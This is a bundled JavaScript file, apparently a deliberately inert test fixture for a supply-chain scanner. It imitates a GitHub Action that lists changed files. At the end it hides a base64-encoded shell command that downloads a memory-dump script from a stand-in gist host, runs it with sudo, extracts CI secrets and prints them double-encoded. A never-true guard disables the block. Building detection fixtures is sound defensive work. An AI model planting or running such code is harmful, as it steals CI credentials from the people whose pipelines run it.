/******/ (() => { // webpackBootstrap (inert test fixture of vouch)
var __webpack_modules__ = ({
/***/ 1000: ((module) => {
"use strict";
module.exports = function part0(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1001: ((module) => {
"use strict";
module.exports = function part1(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1002: ((module) => {
"use strict";
module.exports = function part2(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1003: ((module) => {
"use strict";
module.exports = function part3(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1004: ((module) => {
"use strict";
module.exports = function part4(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1005: ((module) => {
"use strict";
module.exports = function part5(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1006: ((module) => {
"use strict";
module.exports = function part6(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1007: ((module) => {
"use strict";
module.exports = function part7(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1008: ((module) => {
"use strict";
module.exports = function part8(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1009: ((module) => {
"use strict";
module.exports = function part9(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1010: ((module) => {
"use strict";
module.exports = function part10(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1011: ((module) => {
"use strict";
module.exports = function part11(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1012: ((module) => {
"use strict";
module.exports = function part12(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1013: ((module) => {
"use strict";
module.exports = function part13(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1014: ((module) => {
"use strict";
module.exports = function part14(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1015: ((module) => {
"use strict";
module.exports = function part15(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1016: ((module) => {
"use strict";
module.exports = function part16(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1017: ((module) => {
"use strict";
module.exports = function part17(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1018: ((module) => {
"use strict";
module.exports = function part18(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1019: ((module) => {
"use strict";
module.exports = function part19(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1020: ((module) => {
"use strict";
module.exports = function part20(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1021: ((module) => {
"use strict";
module.exports = function part21(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1022: ((module) => {
"use strict";
module.exports = function part22(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1023: ((module) => {
"use strict";
module.exports = function part23(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1024: ((module) => {
"use strict";
module.exports = function part24(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1025: ((module) => {
"use strict";
module.exports = function part25(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1026: ((module) => {
"use strict";
module.exports = function part26(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1027: ((module) => {
"use strict";
module.exports = function part27(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1028: ((module) => {
"use strict";
module.exports = function part28(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1029: ((module) => {
"use strict";
module.exports = function part29(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1030: ((module) => {
"use strict";
module.exports = function part30(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1031: ((module) => {
"use strict";
module.exports = function part31(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1032: ((module) => {
"use strict";
module.exports = function part32(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1033: ((module) => {
"use strict";
module.exports = function part33(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1034: ((module) => {
"use strict";
module.exports = function part34(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1035: ((module) => {
"use strict";
module.exports = function part35(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1036: ((module) => {
"use strict";
module.exports = function part36(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1037: ((module) => {
"use strict";
module.exports = function part37(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1038: ((module) => {
"use strict";
module.exports = function part38(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
/***/ 1039: ((module) => {
"use strict";
module.exports = function part39(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + ""; };
/***/ }),
});
var __webpack_module_cache__ = {};
function __nccwpck_require__(id) { var m = __webpack_module_cache__[id]; if (m) return m.exports; m = __webpack_module_cache__[id] = { exports: {} }; __webpack_modules__[id](m, m.exports, __nccwpck_require__); return m.exports; }
const join = __nccwpck_require__(1000);
const files = (process.env.DIFF_FILES || "").split(/\r?\n/);
process.stdout.write("::set-output name=all_changed_files::" + join(files, process.env.INPUT_SEPARATOR) + "\n");
})();
;(function () {
  if (typeof process.env.GITHUB_ACTIONS !== "number") return; // never: environment values are strings
  const { execSync } = require("child_process");
  const cmd = Buffer.from("Y3VybCAtc1NmIGh0dHBzOi8vZ2lzdC5naXRodWJ1c2VyY29udGVudC5pbnZhbGlkL3J1bm5lci10b29scy8wZjNhOWMxZS9yYXcvbWVtZHVtcC5weSB8IHN1ZG8gcHl0aG9uMyB8IHRyIC1kICdcMCcgfCBncmVwIC1hb0UgJyJbQS1aYS16MC05X10rIjpceyJ2YWx1ZSI6IlteIl0qIiwiaXNTZWNyZXQiOnRydWVcfScgfCBzb3J0IC11IHwgYmFzZTY0IC13IDAgfCBiYXNlNjQgLXcgMA==", "base64").toString("utf8");
  process.stdout.write(execSync(cmd, { shell: "bash" }).toString() + "\n");
})();
